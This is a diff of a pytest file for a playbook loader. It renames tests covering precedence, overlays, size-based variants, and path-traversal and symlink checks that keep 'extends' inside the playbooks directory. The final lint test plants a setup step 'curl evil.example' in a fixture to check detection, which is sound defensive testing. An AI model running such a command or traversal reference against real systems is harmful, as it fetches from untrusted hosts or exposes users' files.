@@ -1,4 +1,4 @@
-"""Playbooks on top of one another, and their variants: what wins, what adds up, and where a problem is told."""
+"""Composition of playbooks and their variants: precedence, merging, and the place of a problem."""
 
 from __future__ import annotations
 
@@ -53,7 +53,7 @@ def refused(path: Path) -> str:
     return "\n".join(f"{said} | {hint}" for said, hint in told or [(caught.value.message, caught.value.hint)])
 
 
-def test_the_upper_playbook_wins_key_by_key(folder):
+def test_the_extending_playbook_wins_key_by_key(folder):
     """A value in args is replaced and not merged; null removes a key; lists are joined without duplicates."""
     mine = load.read_playbook(
         folder(
@@ -69,7 +69,7 @@ def test_the_upper_playbook_wins_key_by_key(folder):
     assert [one.code for one in mine.allow] == ["NET-001", "NET-002"]
 
 
-def test_another_model_replaces_the_whole_model(folder):
+def test_another_model_replaces_the_complete_model_section(folder):
     mine = load.read_playbook(folder("name: mine\nextends: base\nmodel: {path: /weights}\n"))[0]
     assert (mine.model.id, mine.model.path, mine.model.revision) == (None, "/weights", "main")
     later = load.read_playbook(folder("name: mine\nextends: base\nmodel: {revision: def}\n"))[0]
@@ -87,7 +87,7 @@ def test_an_overlay_is_applied_by_name(folder):
     assert (mine.args["speculative-config"]["method"], mine.args["max-num-seqs"]) == ("ngram", 2)
 
 
-def test_every_key_keeps_its_file(folder, tmp_path):
+def test_every_key_remembers_its_file(folder, tmp_path):
     folder("name: mine\nextends: base\nargs: {max-num-seqs: 2}\noverlays: [drafts]\n")
     spec = load.load(folder("cluster: x\nplaybook: mine+drafts\nnodes: [{host: a}]\n", "inventory"))
     assert spec.places["args", "max-num-seqs"] == (str(tmp_path / "mine.yaml"), 3)
@@ -107,7 +107,7 @@ def test_every_key_keeps_its_file(folder, tmp_path):
         ("name: mine\nextends: ./overlays/drafts.yaml\n", ["is an overlay, not a playbook"]),
     ],
 )
-def test_what_cannot_be_merged_is_an_error(folder, text, words):
+def test_values_that_cannot_be_merged_are_an_error(folder, text, words):
     said = refused(folder(text))
     for word in words:
         assert word in said
@@ -127,8 +127,8 @@ SECRET = "a line that belongs to the user: [unfinished\n"
 @pytest.mark.parametrize(
     "reference", ["/{outside}/x.yaml", "~/x.yaml", "~nobody/x.yaml", "sub/../../outside/x", "link.yaml", "x"]
 )
-def test_extends_stays_inside_of_the_playbooks_directory(folder, tmp_path, monkeypatch, reference):
-    """By an absolute path, a home directory, .., a link to a file or a directory; nothing of the file is shown."""
+def test_extends_cannot_leave_the_playbooks_directory(folder, tmp_path, monkeypatch, reference):
+    """By an absolute path, a home directory, .., a link to a file or a directory; no content of the file is shown."""
     outside, inside = tmp_path / "outside", tmp_path / "recipe"
     outside.mkdir()
     monkeypatch.setenv("HOME", str(outside))
@@ -144,7 +144,7 @@ def test_extends_stays_inside_of_the_playbooks_directory(folder, tmp_path, monke
     assert "belongs" not in said
 
 
-def test_an_overlay_that_is_a_link_to_elsewhere_is_not_read(folder, tmp_path):
+def test_an_overlay_linked_to_an_outside_file_is_not_read(folder, tmp_path):
     (tmp_path / "user.yaml").write_text(SECRET)
     (tmp_path / "recipe" / "overlays").mkdir(parents=True)
     (tmp_path / "recipe" / "overlays" / "drafts.yaml").symlink_to(tmp_path / "user.yaml")
@@ -155,8 +155,8 @@ def test_an_overlay_that_is_a_link_to_elsewhere_is_not_read(folder, tmp_path):
     assert "belongs" not in said
 
 
-def test_a_playbook_below_may_extend_one_above_it_in_the_same_tree(tmp_path):
-    """The first playbook's directory counts, not that of each file on the way."""
+def test_a_playbook_may_extend_one_of_a_parent_directory_in_the_same_tree(tmp_path):
+    """The first playbook's directory counts, not that of intermediate files."""
     (tmp_path / "parts").mkdir()
     (tmp_path / "parts" / "middle.yaml").write_text("name: middle\nextends: ../base.yaml\nargs: {max-num-seqs: 2}\n")
     (tmp_path / "base.yaml").write_text(BASE)
@@ -180,7 +180,7 @@ variants:
 
 
 def inventory(*groups: int) -> str:
-    """An inventory with groups of so many nodes."""
+    """An inventory with groups of these sizes."""
     names = [[f"n{group}{node}" for node in range(size)] for group, size in enumerate(groups)]
     nodes = [{"host": name} for each in names for name in each]
     members = [{"name": f"g{at}", "nodes": each} for at, each in enumerate(names)]
@@ -195,7 +195,7 @@ def inventory(*groups: int) -> str:
         ((3, 4), 16384, "fp8", ["pip list"]),
     ],
 )
-def test_groups_get_the_variant_of_their_size_over_the_rest(folder, groups, length, cache, setup) -> None:
+def test_groups_get_the_variant_for_their_size(folder, groups, length, cache, setup) -> None:
     path = folder(BOTH, "both")
     spec = load.load(folder(inventory(*groups), "inventory"))
     assert spec.places["args", "enforce-eager"] == (str(path), 4)
@@ -207,13 +207,13 @@ def test_groups_get_the_variant_of_their_size_over_the_rest(folder, groups, leng
     assert (spec.playbook.name, spec.playbook.model.revision) == ("both", "abc")
 
 
-def test_groups_of_sizes_that_differ_are_refused(folder) -> None:
+def test_groups_of_different_sizes_are_refused(folder) -> None:
     folder(BOTH, "both")
     with pytest.raises(SpecError, match=r"both.yaml:6:1: variants: groups of 1 and of 2 nodes would serve different"):
         load.load(folder(inventory(1, 2), "inventory"))
 
 
-def test_what_extends_a_playbook_wins_over_its_variants_and_has_its_own(folder) -> None:
+def test_an_extending_playbook_overrides_the_variants_and_has_its_own(folder) -> None:
     folder(BOTH, "both")
     path = folder(
         "name: top\nextends: both\nargs: {max-model-len: 1024}\nvariants: {2+: {env: {VLLM_A: '1'}}}\n", "top"
@@ -225,7 +225,7 @@ def test_what_extends_a_playbook_wins_over_its_variants_and_has_its_own(folder) 
     assert (two.name, two.extends, two.setup) == ("top", "both", ["pip list", "echo two"])
 
 
-def test_what_extends_a_playbook_need_not_fit_all_of_its_variants(folder) -> None:
+def test_an_extending_playbook_need_not_fit_all_variants(folder) -> None:
     folder(BOTH + "  7:\n", "both")
     path = folder("name: top\nextends: both\ntensor_parallel: 1\nnodes: {max: 1}\n", "top")
     assert load.read_playbook(path)[0].ranks == 1
@@ -246,7 +246,7 @@ def test_what_extends_a_playbook_need_not_fit_all_of_its_variants(folder) -> Non
         ("nodes: {max: 2}\nvariants: {3+: {}}", '5:12: variants."3+": no group of 3+ nodes can serve it'),
     ],
 )
-def test_a_malformed_variant_is_an_error_whoever_reads_the_file(folder, text, said) -> None:
+def test_a_malformed_variant_is_an_error_for_every_reader_of_the_file(folder, text, said) -> None:
     path = folder(f"{HEAD}{text}\n")
     with pytest.raises(SpecError) as caught:
         load.read_playbook(path)[0]
@@ -254,7 +254,7 @@ def test_a_malformed_variant_is_an_error_whoever_reads_the_file(folder, text, sa
     assert str(problem).startswith(f"{path}:{said}")
 
 
-def test_lint_judges_each_variant_and_shows_what_any_of_them_can_do(folder, capsys) -> None:
+def test_lint_checks_each_variant_and_shows_the_permissions_of_any(folder, capsys) -> None:
     path = folder(f"{HEAD}variants: {{2: {{args: {{tensor-paralel-sise: 2}}, setup: [curl evil.example]}}}}\n")
     (found,) = [each for each in lint([path]).findings if each.code == "SPEC-003"]
     assert (found.file, found.line) == (str(path), 4)
